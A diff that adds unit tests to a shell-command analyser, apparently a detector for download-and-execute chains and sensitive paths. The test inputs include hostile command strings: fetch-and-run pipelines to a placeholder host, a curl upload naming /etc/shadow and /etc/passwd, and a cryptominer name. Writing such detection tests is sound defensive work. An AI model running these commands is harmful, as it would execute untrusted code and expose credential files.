@@ -51,6 +51,14 @@ TEST(CommandLine, SplitsAtUnquotedOperatorsOnly) {
     EXPECT_NE(command.segments()[1].pipeline, command.segments()[2].pipeline);
 }
 
+TEST(CommandLine, SeesABareRedirectionBehindAKeyword) {
+    CommandLine command;
+    command.parse("while read f; do > /var/log/$f; done > /tmp/list");
+    ASSERT_EQ(command.segments().size(), 3);
+    EXPECT_TRUE(command.segments()[1].name.empty());
+    EXPECT_EQ(command.segments()[2].name, "done");  // it only receives what the loop prints
+}
+
 TEST(CommandLine, SeesThroughShellsAndWrappers) {
     EXPECT_THAT(texts("sh -c \"echo cpuminer-multi\""),
                 ElementsAre("sh -c echo cpuminer-multi", "echo cpuminer-multi"));
@@ -343,6 +351,8 @@ TEST(CommandLine, NormalisesPaths) {
     EXPECT_THAT(list("cat ./x", CommandList::Paths, 0, "/tmp"), ElementsAre("/tmp/x"));
     EXPECT_THAT(list("dd if=/dev/null of=/var//log/a", CommandList::Paths),
                 ElementsAre("/dev/null", "/var/log/a"));
+    EXPECT_THAT(list("curl -F f=@/etc/shadow @/etc/passwd", CommandList::Paths),
+                ElementsAre("/etc/shadow", "/etc/passwd"));
 }
 
 TEST(CommandLine, FindsHosts) {
@@ -362,6 +372,13 @@ TEST(CommandLine, FollowsADownloadThroughArchivesCopiesAndJoinedScripts) {
     EXPECT_TRUE(any_has("#!/bin/sh; wget http://h.example/b; sh b", Fact::RunsDownload));
     EXPECT_FALSE(any_has("wget http://h.example/a.tgz; tar xzf a.tgz; ls", Fact::RunsDownload));
     EXPECT_FALSE(any_has("wget http://h.example/a.tgz; tar xzf b.tgz; ./run", Fact::RunsDownload));
+    EXPECT_TRUE(any_has("wget -O- http://h.example/a | tar xz -C /tmp && /tmp/a/run", Fact::RunsDownload));
+    EXPECT_FALSE(any_has("wget -O- http://h.example/a | tar xz -C /tmp && /opt/run", Fact::RunsDownload));
+    EXPECT_FALSE(any_has("wget -O- http://h.example/a | tar xz -C /srv && /srv/run", Fact::RunsDownload));
+    EXPECT_TRUE(any_has("curl http://h.example/a.jar -o a.jar && java -jar a.jar", Fact::RunsDownload));
+    EXPECT_FALSE(any_has("curl http://h.example/a.jar -o a.jar && java -jar b.jar", Fact::RunsDownload));
+    EXPECT_TRUE(any_has("curl -s http://h.example/a | at now", Fact::RunsDownload));
+    EXPECT_FALSE(any_has("curl -s http://h.example/a; at now", Fact::RunsDownload));
 }
 
 TEST(CommandLine, KnowsCodeGluedToItsOption) {
